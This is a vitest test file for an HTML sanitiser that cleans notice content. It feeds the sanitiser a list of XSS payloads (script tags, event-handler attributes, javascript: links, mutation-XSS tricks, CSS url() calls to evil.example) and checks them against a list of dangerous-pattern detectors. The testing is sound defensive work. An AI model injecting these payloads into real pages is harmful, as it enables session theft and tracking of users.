import { describe, expect, it } from 'vitest';
import { cleanStyle, sanitizeNoticeHtml } from './sanitize-html';

/** Things that must never survive sanitising, whatever the payload. */
const DANGER = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<style/i,
  /<form/i,
  /<input/i,
  /<base/i,
  /<meta/i,
  /<link/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /url\s*\(/i,
  /expression\s*\(/i,
  /srcdoc/i,
  /formaction/i,
];

function expectSafe(html: string): void {
  for (const pattern of DANGER) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
}

describe('sanitizeNoticeHtml: XSS payloads', () => {
  const payloads: [string, string][] = [
    ['script element', '<p>hi</p><script>alert(document.cookie)</script>'],
    ['script with src', '<script src="https://evil.example/x.js"></script><p>x</p>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['svg onload', '<svg onload=alert(1)><circle r=1></circle></svg>'],
    ['svg script', '<svg><script>alert(1)</script></svg>'],
    ['body onload', '<body onload=alert(1)><p>x</p></body>'],
    ['javascript link', '<a href="javascript:alert(1)">click</a>'],
    ['javascript link, mixed case and entity', '<a href="JaVaScRiPt&colon;alert(1)">click</a>'],
    ['javascript link, leading whitespace and tab', '<a href=" &#14; java\tscript:alert(1)">click</a>'],
    ['vbscript link', '<a href="vbscript:msgbox(1)">click</a>'],
    ['data html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    [
      'form action',
      '<form action="https://evil.example"><input name="pan"><button formaction="javascript:alert(1)">go</button></form>',
    ],
    ['style element', '<style>body{background:url(https://evil.example/track)}</style><p>x</p>'],
    ['style url', '<p style="background-image: url(https://evil.example/track.png)">x</p>'],
    ['style url escaped', '<p style="background: u\\72l(https://evil.example/t)">x</p>'],
    ['style expression', '<p style="width: expression(alert(1))">x</p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base href', '<base href="https://evil.example/">'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['math xlink', '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'],
    ['mutation XSS (noscript)', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['mutation XSS (template)', '<template><img src=x onerror=alert(1)></template>'],
    ['nested comment break-out', '<!--<img src="--><img src=x onerror=alert(1)//">'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
    ['image with javascript src', '<img src="javascript:alert(1)">'],
    ['image with svg data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['unclosed attribute tricks', '<a href="https://ok.example" onmouseover="alert(1)" x="y">ok</a>'],
  ];

  for (const [name, payload] of payloads) {
    it(`neutralises: ${name}`, async () => {
      expectSafe(await sanitizeNoticeHtml(payload));
    });
  }

  it('drops script content entirely rather than leaving its text', async () => {
    expect(await sanitizeNoticeHtml('<p>hi</p><script>alert(1)</script>')).toBe('<p>hi</p>');
  });

  it('removes a data: image of a non-raster type but keeps the element harmless', async () => {
    expect(await sanitizeNoticeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">')).toBe(
      '<img alt="x">',
    );
  });
});

describe('sanitizeNoticeHtml: what is kept', () => {
  it('keeps basic formatting, lists, headings, tables and line breaks', async () => {
    const html =
      '<h3>Title</h3><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s><br>line</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote>' +
      '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>';
    expect(await sanitizeNoticeHtml(html)).toBe(html);
  });

  it('keeps https links, opening in a new tab with rel noopener', async () => {
    expect(await sanitizeNoticeHtml('<a href="https://example.com/a?b=1" target="_self">x</a>')).toBe(
      '<a href="https://example.com/a?b=1" rel="noopener noreferrer" target="_blank">x</a>',
    );
  });

  it('keeps mailto links with rel noopener', async () => {
    expect(await sanitizeNoticeHtml('<a href="mailto:help@example.com">mail</a>')).toBe(
      '<a href="mailto:help@example.com" rel="noopener noreferrer">mail</a>',
    );
  });

  it('drops http, relative and protocol-relative link targets but keeps the text', async () => {
    for (const href of [
      'http://example.com',
      '/relative',
      '//evil.example',
      '#/cardList',
      'ftp://example.com',
    ]) {
      expect(await sanitizeNoticeHtml(`<a href="${href}">x</a>`)).toBe('<a rel="noopener noreferrer">x</a>');
    }
  });

  it('keeps https and raster data:image sources', async () => {
    const https = '<img src="https://example.com/banner.png" alt="banner" width="100">';
    expect(await sanitizeNoticeHtml(https)).toBe(https);
    const png = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">';
    expect(await sanitizeNoticeHtml(png)).toBe(png);
  });

  it('drops http image sources', async () => {
    expect(await sanitizeNoticeHtml('<img src="http://example.com/x.png" alt="x">')).toBe('<img alt="x">');
  });

  it('keeps simple text styles and drops the rest of a style', async () => {
    expect(
      await sanitizeNoticeHtml('<span style="color: #c00; font-weight: bold; position: fixed">x</span>'),
    ).toBe('<span style="color: #c00; font-weight: bold">x</span>');
  });

  it('drops data- and unknown attributes and class names', async () => {
    expect(await sanitizeNoticeHtml('<p data-x="1" class="c" id="i" foo="bar">x</p>')).toBe('<p>x</p>');
  });

  it('keeps Chinese text and entities intact', async () => {
    expect(await sanitizeNoticeHtml('<p>维护通知 &amp; 公告</p>')).toBe('<p>维护通知 &amp; 公告</p>');
  });
});

describe('cleanStyle', () => {
  it('keeps allowed properties with plain values', () => {
    expect(cleanStyle('color: rgb(10, 20, 30); text-align:center')).toBe(
      'color: rgb(10, 20, 30); text-align: center',
    );
  });

  it('drops url(), expression(), var(), escapes, quotes and unknown properties', () => {
    for (const style of [
      'background: url(x)',
      'color: url(x)',
      'color: expression(alert(1))',
      'color: var(--x)',
      'color: \\75rl(x)',
      'color: "red"',
      'behavior: url(x.htc)',
      '-moz-binding: url(x)',
      'color: exrgb(1,2,3)',
      'color: red /* x */',
    ]) {
      expect(cleanStyle(style), style).toBe('');
    }
  });
});
